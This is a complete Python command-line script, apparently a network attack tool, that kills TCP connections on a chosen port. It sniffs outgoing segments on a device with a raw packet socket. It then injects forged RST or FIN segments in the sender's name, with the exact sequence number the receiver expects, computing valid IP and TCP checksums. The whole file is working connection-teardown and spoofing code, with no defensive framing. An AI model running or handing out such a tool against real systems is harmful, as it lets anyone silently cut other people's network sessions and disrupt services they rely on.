"""Ends a TCP connection from the path: ``spoof.py DEVICE PORT rst|fin COUNT``.

Waits for a segment to or from the port that leaves through the device, and sends a RST or FIN in the sender's name
behind it, with the number that the receiver expects next. Does it COUNT times, a tenth of a second apart; prints what
it sent.
"""

import socket
import struct
import sys
import time

_IPV4 = 0x0800
_TCP = 6
_ETHERNET = 14
_FIN, _SYN, _RST, _ACK = 1, 2, 4, 16


def checksum(data: bytes) -> int:
    """Return the internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ending(frame: bytes, flags: int) -> bytes:
    """Make the frame that follows a TCP segment's frame and ends the connection."""
    ip = bytearray(frame[_ETHERNET : _ETHERNET + 20])
    start = _ETHERNET + (ip[0] & 15) * 4
    tcp = bytearray(frame[start : start + 20])
    payload = int.from_bytes(ip[2:4], "big") - (ip[0] & 15) * 4 - (tcp[12] >> 4) * 4
    expected = int.from_bytes(tcp[4:8], "big") + payload
    tcp[4:8] = (expected & 0xFFFF_FFFF).to_bytes(4, "big")
    tcp[12:14] = bytes([5 << 4, flags])
    tcp[16:20] = bytes(4)
    pseudo = ip[12:20] + bytes([0, _TCP, 0, len(tcp)])
    tcp[16:18] = checksum(bytes(pseudo + tcp)).to_bytes(2, "big")
    ip[0] = 0x45
    ip[2:4] = (40).to_bytes(2, "big")
    ip[10:12] = bytes(2)
    ip[10:12] = checksum(bytes(ip)).to_bytes(2, "big")
    return frame[:_ETHERNET] + bytes(ip + tcp)


def main(device: str, port: int, kind: str, count: int) -> None:
    """Wait, send, say so."""
    flags = _RST | _ACK if kind == "rst" else _FIN | _ACK
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as wire:
        wire.bind((device, 0x0003))
        while count:
            frame, address = wire.recvfrom(65_536)
            if address[2] != socket.PACKET_OUTGOING or address[1] != _IPV4 or frame[_ETHERNET + 9] != _TCP:
                continue
            start = _ETHERNET + (frame[_ETHERNET] & 15) * 4
            if port in struct.unpack_from("!2H", frame, start) and not frame[start + 13] & (_FIN | _SYN | _RST):
                wire.send(ending(frame, flags))
                print(kind, *struct.unpack_from("!2H", frame, start), flush=True)
                count -= 1
                time.sleep(0.1)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
